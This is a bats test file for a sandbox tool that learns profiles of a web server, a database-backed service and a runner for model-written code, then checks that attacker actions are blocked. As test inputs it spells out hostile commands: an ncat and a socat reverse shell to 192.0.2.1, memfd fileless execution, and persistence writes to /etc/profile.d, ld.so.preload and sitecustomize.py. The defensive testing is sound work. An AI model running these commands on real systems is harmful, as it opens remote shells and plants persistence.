#!/usr/bin/env bats
# learn.bats: real workloads are recorded, learnt and enforced in a guest: they run as before, and what an attacker does in
# their place is denied. SNIPPETS=N runs the first N of the code runner's 50.
bats_require_minimum_version 1.5.0
load guest
load ../helpers
export BATS_TEST_TIMEOUT=900

setup_file() {
	ip link set lo up
	export WORK=$BATS_TEST_DIRNAME/work
}
setup() { cd "$BATS_TEST_TMPDIR"; }

# learnt COMMAND...: records the command, makes a profile of that in ./learnt.yaml, and runs it again under that profile.
learnt() {
	"$KWP" diff --record recorded --only procs,net -q -- "$@"
	"$KWP" diff --learn recorded >learnt.yaml
	"$KWP" load --check learnt.yaml
	"$KWP" block -P ./learnt.yaml -o json -w denied -- "$@" 2>err || { tail err; head denied; return 1; }
	[ ! -s denied ] || { cat denied; return 1; }
	grep -q ' 0 findings, 0 lost' err
}

# denied COMMAND...: in place of the workload the command does not do what it is for.
denied() {
	run ! "$KWP" block -q -P ./learnt.yaml -o json -w findings -- "$@"
	jq -es 'any(.[]; .kwp.verdict == "block" or .kwp.verdict == "kill")' findings >/dev/null
	rm findings
}

# What no workload here does.
attacks() {
	denied sh -c 'cp /bin/true ./dropped && ./dropped'
	denied sh -c 'echo /tmp/x >/etc/profile.d/x.sh'
	[ ! -e /etc/profile.d/x.sh ]
	denied sh -c 'exec ncat 192.0.2.1 443 -e /bin/sh'
	denied sh -c 'exec busybox sh -c id'
}

@test "a web server that serves and takes its configuration again" {
	learnt sh "$WORK/nginx.sh"
	attacks
	denied sh -c 'exec python3 -c 1'
	denied curl -m 2 http://192.0.2.1/
	denied sh -c 'echo x >/srv/site/index2.html'
}

@test "a web service with a database" {
	learnt python3 "$WORK/service.py"
	attacks
	denied bash -c 'exec id'
	denied python3 -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "id"], check=True)'
	denied python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 2)'
	denied python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])'
	denied python3 -c 'open("/usr/lib/python3/dist-packages/sitecustomize.py", "w")'
}

@test "what runs code that a model wrote" {
	learnt python3 "$WORK/runner.py"
	attacks
	denied python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 2)'
	denied python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execv(f"/proc/self/fd/{fd}", ["x"])'
	denied python3 -c 'open("/etc/ld.so.preload", "w")'
	denied python3 -c 'open("/root/.ssh-not-yet", "w")'
	denied sh -c 'exec socat - TCP:192.0.2.1:443'
}
